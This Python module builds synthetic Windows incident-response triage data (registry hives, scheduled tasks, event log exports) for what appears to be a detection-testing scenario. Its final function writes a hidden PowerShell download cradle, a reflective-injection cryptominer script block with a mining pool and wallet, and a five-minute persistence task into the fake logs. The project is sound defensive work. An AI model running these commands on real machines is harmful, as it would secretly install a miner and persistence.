"""A Windows host of a seed-case scenario, laid out as a responder's triage collection.

EVTX cannot be written here, so a host folder is what a KAPE-style triage plus a few exports
give::

    CASE/<HOST>/C/Windows/System32/config/SYSTEM     registry hives (hivex, real regf files)
    CASE/<HOST>/C/Windows/System32/config/SOFTWARE
    CASE/<HOST>/C/Windows/System32/Tasks/<name>      Task Scheduler XML (UTF-16 LE with BOM)
    CASE/<HOST>/C/inetpub/logs/LogFiles/W3SVC1/…     IIS W3C logs (web servers)
    CASE/<HOST>/C/Windows/System32/LogFiles/Firewall/pfirewall.log   (XP firewall log)
    CASE/<HOST>/EventLogs/<channel>.xml              ``wevtutil qe <channel> /f:xml`` exports
    CASE/<HOST>/FileSystem/files.csv                 ``Get-ChildItem | Get-FileHash`` listing

Hosts are workgroup machines, so event ``Computer`` is the short NetBIOS name, the same as
the SYSTEM hive's ``ComputerName`` (deminer's host id is their lower-case form). Every event
gets its channel's next record id in time order when written. ``WinBox`` adds the noise a
real server logs (service logons, an admin's RDP session with a typo, a backup agent's
service and task) so a rule that fires on everything fails the clean hosts.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
from pathlib import Path
from xml.sax.saxutils import escape

from deminer.scenarios import hives as hg
from deminer.scenarios import win_events as wg
from deminer.scenarios.seed.common import epoch

ADMIN_DESK = "10.200.0.5"                   # the IT department's admin workstation
CHANNEL_FILES = {
    "Security": "Security.xml", "System": "System.xml", "Application": "Application.xml",
    wg.SYSMON[2]: "Microsoft-Windows-Sysmon%4Operational.xml",
    wg.POWERSHELL[2]: "Microsoft-Windows-PowerShell%4Operational.xml",
}
MS17_010 = {"6.1": "KB4012212", "6.3": "KB4012213", "10.0": "KB4012606", "5.1": "KB4012598"}


def sid(user: str) -> str:
    """The local account SID of ``user`` on these hosts (RID 500 for Administrator)."""
    if user.upper() in ("SYSTEM", "-"):
        return "S-1-5-18"
    rid = 500 if user.lower() == "administrator" else 1000 + sum(map(ord, user.lower())) % 500
    return f"S-1-5-21-3623811015-3361044348-30300820-{rid}"


def task_document(uri: str, command: str, arguments: str, when: dt.datetime, author: str,
                  user_id: str = "S-1-5-18", interval: str = "PT5M", hidden: bool = True) -> str:
    """A task definition as the Task Scheduler stores it in System32\\Tasks."""
    args = f"\n      <Arguments>{escape(arguments)}</Arguments>" if arguments else ""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n'
        f"  <RegistrationInfo>\n    <Date>{when:%Y-%m-%dT%H:%M:%S}</Date>\n"
        f"    <Author>{escape(author)}</Author>\n    <URI>{escape(uri)}</URI>\n  </RegistrationInfo>\n"
        "  <Triggers>\n    <TimeTrigger>\n      <Repetition>\n"
        f"        <Interval>{interval}</Interval>\n        <StopAtDurationEnd>false</StopAtDurationEnd>\n"
        f"      </Repetition>\n      <StartBoundary>{when:%Y-%m-%dT%H:%M:%S}</StartBoundary>\n"
        "      <Enabled>true</Enabled>\n    </TimeTrigger>\n    <BootTrigger>\n"
        "      <Enabled>true</Enabled>\n    </BootTrigger>\n  </Triggers>\n"
        f'  <Principals>\n    <Principal id="Author">\n      <UserId>{user_id}</UserId>\n'
        "      <RunLevel>HighestAvailable</RunLevel>\n    </Principal>\n  </Principals>\n"
        f"  <Settings>\n    <Enabled>true</Enabled>\n    <Hidden>{str(hidden).lower()}</Hidden>\n"
        "  </Settings>\n"
        f'  <Actions Context="Author">\n    <Exec>\n      <Command>{escape(command)}</Command>{args}\n'
        "    </Exec>\n  </Actions>\n</Task>\n")


WORKSTATIONS = {"7": ("Windows 7 Professional", "6.1", "7601", "Service Pack 1"),
                "10": ("Windows 10 Pro", "10.0", "19045", "")}


def workstation(name: str, ip: str, start: dt.datetime, release: str = "7", patched: bool = False) -> WinBox:
    """A desktop PC (Windows 7 SP1 or Windows 10 22H2) with the usual noise."""
    product, version, build, sp = WORKSTATIONS[release]
    return WinBox(name, ip, start, product=product, version=version, build=build, sp=sp, patched=patched)


class WinBox:
    """One Windows host: events, hive keys, tasks and files; ``write`` lays them out."""

    def __init__(self, name: str, ip: str, start: dt.datetime,
                 product: str = "Windows Server 2012 R2 Standard", version: str = "6.3", build: str = "9600",
                 sp: str = "", patched: bool = False, noise: bool = True) -> None:
        self.name, self.ip, self.start = name.upper(), ip, start
        self.version = version
        self.events: list[wg.Event] = []
        self.tasks: dict[str, str] = {}
        self.files: list[tuple[str, int, dt.datetime, str]] = []
        self.extra_files: dict[str, tuple[bytes, dt.datetime]] = {}
        self._n = 0
        guid = "{" + hashlib.md5(name.encode()).hexdigest()[:8].upper() + "-4D2A-4E21-9C11-0050569A0001}"
        svc = "ControlSet001\\Services"
        self.system_keys: list[hg.Key] = [
            hg.Key("Select", [hg.dword("Current", 1), hg.dword("Default", 1), hg.dword("LastKnownGood", 2)]),
            hg.Key("ControlSet001\\Control\\ComputerName\\ComputerName", [hg.sz("ComputerName", self.name)]),
            hg.Key(f"{svc}\\Tcpip\\Parameters", [hg.sz("Hostname", name.lower()), hg.sz("Domain", "")]),
            hg.Key(f"{svc}\\Tcpip\\Parameters\\Interfaces\\{guid}", [
                hg.dword("EnableDHCP", 0), hg.multi_sz("IPAddress", [ip]),
                hg.multi_sz("SubnetMask", ["255.255.255.0"]),
                hg.multi_sz("DefaultGateway", [".".join(ip.split(".")[:3]) + ".1"])]),
            hg.Key(f"{svc}\\LanmanServer", [
                hg.expand_sz("ImagePath", "%SystemRoot%\\system32\\svchost.exe -k netsvcs"),
                hg.dword("Start", 2), hg.dword("Type", 0x20), hg.sz("ObjectName", "LocalSystem")]),
            hg.Key(f"{svc}\\W32Time", [
                hg.expand_sz("ImagePath", "%SystemRoot%\\system32\\svchost.exe -k LocalService"),
                hg.dword("Start", 3), hg.dword("Type", 0x20),
                hg.sz("ObjectName", "NT AUTHORITY\\LocalService")]),
        ]
        patches = [hg.Key(f"{hg.CBS}\\Package_for_KB2534111~31bf3856ad364e35~amd64~~{version}.1.1",
                          [hg.dword("CurrentState", 0x70)], dt.datetime(2016, 11, 2, 9))]
        if patched:
            patches.append(hg.Key(f"{hg.CBS}\\Package_for_{MS17_010[version]}~31bf3856ad364e35~amd64~~"
                                  f"{version}.1.0", [hg.dword("CurrentState", 0x70)],
                                  dt.datetime(2017, 4, 2, 9)))
        self.software_keys: list[hg.Key] = [
            hg.Key(hg.NTCV, [hg.sz("ProductName", product), hg.sz("CurrentBuild", build),
                             hg.sz("CurrentVersion", version), *([hg.sz("CSDVersion", sp)] if sp else [])]),
            hg.Key(f"{hg.CV}\\Run", [hg.sz("VMware User Process", hg.VMTOOLS)], dt.datetime(2021, 6, 1, 10)),
            *patches,
        ]
        if noise:
            self._noise()

    # -- events ----------------------------------------------------------------------------------
    def add(self, ev: wg.Event) -> wg.Event:
        ev.computer = self.name
        self._n += 1
        ev.record_id = self._n          # renumbered per channel in time order by ``write``
        self.events.append(ev)
        return ev

    def logon(self, when: dt.datetime, user: str, ip: str, logon_type: int = 3, ok: bool = True,
              status: str = "0xC000006A", logon_id: str | None = None, workstation: str = "") -> wg.Event:
        ev = self.add(wg.logon(ok, user=user, ip=ip, logon_type=logon_type, sub_status=status, time=when,
                               port=49152 + (self._n * 37) % 16000))
        assert isinstance(ev.data, dict)
        ev.data["TargetDomainName"] = self.name
        ev.data["WorkstationName"] = workstation or ("-" if ip.startswith("10.") else "WIN-" + ip[-3:])
        if ok:
            ev.data["TargetUserSid"] = sid(user)
            ev.data["TargetLogonId"] = logon_id or f"0x{0x3a0000 + self._n * 0x1f3:x}"
        if ok and logon_type in (2, 10, 11):
            ev.data["LogonProcessName"], ev.data["AuthenticationPackageName"] = "User32 ", "Negotiate"
        return ev

    def process(self, when: dt.datetime, image: str, command: str, parent: str, user: str = "SYSTEM",
                pid: int = 0) -> wg.Event:
        ev = self.add(wg.process_creation(image=image, command_line=command, parent=parent,
                                          pid=pid or 0x1000 + self._n * 4, user=user, time=when))
        assert isinstance(ev.data, dict)
        ev.data["SubjectDomainName"] = self.name if user != "SYSTEM" else "NT AUTHORITY"
        if user == "SYSTEM":
            ev.data["SubjectUserSid"], ev.data["SubjectLogonId"] = "S-1-5-18", "0x3e7"
        return ev

    def service(self, when: dt.datetime, name: str, image: str, account: str = "LocalSystem",
                installer_sid: str = "S-1-5-18", registry: bool = True) -> None:
        """A service install (7045) and, unless removed since, its key in the SYSTEM hive."""
        self.add(wg.service_install(name=name, image_path=image, account=account, installer_sid=installer_sid,
                                    time=when))
        if registry:
            self.system_keys.append(hg.Key(f"ControlSet001\\Services\\{name}", [
                hg.expand_sz("ImagePath", image), hg.dword("Start", 2), hg.dword("Type", 0x10),
                hg.sz("ObjectName", account), hg.sz("DisplayName", name)], when))

    def task(self, when: dt.datetime, name: str, command: str, arguments: str = "", author: str = "SYSTEM",
             logon_id: str = "0x3e7", event: bool = True) -> None:
        """A task: its 4698 (with the definition), its file under System32\\Tasks."""
        uri = "\\" + name
        doc = task_document(uri, command, arguments, when, author)
        if event:
            ev = self.add(wg.task_created(name=uri, content=doc.split("\n", 1)[1], time=when))
            assert isinstance(ev.data, dict)
            ev.data.update(SubjectUserName=author if author != "SYSTEM" else f"{self.name}$",
                           SubjectDomainName=self.name, SubjectLogonId=logon_id,
                           SubjectUserSid="S-1-5-18" if author == "SYSTEM" else "S-1-5-21-1-2-3-500")
        self.tasks[name] = doc

    def task_deleted(self, when: dt.datetime, name: str, user: str, logon_id: str = "0x5a1f2") -> None:
        ev = self.add(wg.task_created(name="\\" + name, content="", time=when))
        ev.event_id = 4699
        assert isinstance(ev.data, dict)
        del ev.data["TaskContent"]
        ev.data.update(SubjectUserName=user, SubjectDomainName=self.name, SubjectLogonId=logon_id)

    def run_key(self, name: str, command: str, when: dt.datetime) -> None:
        self.software_keys.append(hg.Key(f"{hg.CV}\\Run", [hg.sz(name, command)], when))

    def file(self, path: str, size: int, when: dt.datetime, content_seed: str | None = None) -> None:
        digest = hashlib.sha256((content_seed or path).encode()).hexdigest()
        self.files.append((path, size, when, digest))

    # -- noise -----------------------------------------------------------------------------------
    def _noise(self) -> None:
        t = self.start
        for i in range(3):
            self.logon(t + dt.timedelta(minutes=7 * i), "SYSTEM", "-", logon_type=5)
        self.process(t + dt.timedelta(minutes=2), r"C:\Windows\System32\svchost.exe",
                     r"C:\Windows\system32\svchost.exe -k netsvcs -p", r"C:\Windows\System32\services.exe")
        # An admin mistypes once, then logs on over RDP and checks the services.
        self.logon(t + dt.timedelta(minutes=40), "Administrator", ADMIN_DESK, logon_type=10, ok=False)
        self.logon(t + dt.timedelta(minutes=41), "Administrator", ADMIN_DESK, logon_type=10)
        self.process(t + dt.timedelta(minutes=43), r"C:\Windows\System32\mmc.exe",
                     r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\services.msc"',
                     r"C:\Windows\explorer.exe", user="Administrator")
        backup = r'"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe"'
        self.service(t + dt.timedelta(minutes=50), "VeeamEndpointBackupSvc", backup)
        self.task(t + dt.timedelta(minutes=52), "VeeamEndpointBackup",
                  r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe", "/backup",
                  author=f"{self.name}\\Administrator", event=False)
        self.file(r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe", 1_843_200,
                  dt.datetime(2021, 6, 1, 10))

    # -- output ----------------------------------------------------------------------------------
    def write(self, case_dir: Path, logs: bool = True) -> Path:
        """Lay the host out under ``case_dir/<HOST>``; ``logs=False`` leaves out the event logs."""
        top = case_dir / self.name
        config = top / "C/Windows/System32/config"
        config.mkdir(parents=True, exist_ok=True)
        hg.write_hive(config / "SYSTEM", "SYSTEM", self.system_keys)
        hg.write_hive(config / "SOFTWARE", "SOFTWARE", self.software_keys)
        for name, doc in self.tasks.items():
            path = top / "C/Windows/System32/Tasks" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(b"\xff\xfe" + doc.replace("\n", "\r\n").encode("utf-16-le"))
        for rel, (data, when) in self.extra_files.items():
            path = top / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            os.utime(path, (epoch(when), epoch(when)))
        if logs:
            self._write_events(top / "EventLogs")
        if self.files:
            self._write_listing(top / "FileSystem" / "files.csv")
        return top

    def _write_events(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        by_channel: dict[str, list[wg.Event]] = {}
        for ev in sorted(self.events, key=lambda e: (e.time, e.record_id)):
            by_channel.setdefault(ev.channel, []).append(ev)
        for channel, evs in by_channel.items():
            first = 10_000 + sum(ord(c) for c in self.name) * 7
            for n, ev in enumerate(evs):
                ev.record_id = first + n
            (folder / CHANNEL_FILES[channel]).write_text(wg.export(evs), encoding="utf-8")

    def _write_listing(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        buf = io.StringIO()
        out = csv.writer(buf, lineterminator="\r\n")
        out.writerow(["ComputerName", "FullName", "Length", "LastWriteTimeUtc", "SHA256"])
        for p, size, when, digest in sorted(self.files):
            out.writerow([self.name, p, size, when.strftime("%Y-%m-%dT%H:%M:%SZ"), digest.upper()])
        path.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8"))


POOL_PS = "pool.minexmr.com:4444"
WALLET = "4" + "6dRtE2p" * 13 + "Wq9sXvB"       # Monero-wallet shape, not a real one


def powershell_miner(box: WinBox, at: dt.datetime, parent: str, c2: str, task: str,
                     user: str = "SYSTEM") -> str:
    """Seed case 1/2's PowerShell miner: the download cradle, the script block that loads
    the miner in memory with its pool, and a task that starts it again every few minutes."""
    cradle = (f"powershell.exe -nop -w hidden -ep bypass -c \"IEX(New-Object Net.WebClient)."
              f"DownloadString('http://{c2}/m.ps1')\"")
    box.process(at, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", cradle, parent, user=user)
    box.add(wg.script_block(
        f"$u='http://{c2}/x64.bin';$b=(New-Object Net.WebClient).DownloadData($u);"
        f"Invoke-ReflectivePEInjection -PEBytes $b -ExeArgs '-o stratum+tcp://{POOL_PS} -u {WALLET} "
        "-p x --donate-level 1 -B'", time=at + dt.timedelta(seconds=8)))
    box.task(at + dt.timedelta(seconds=20), task,
             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
             f"-nop -w hidden -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('http://{c2}/m.ps1')\"")
    return cradle
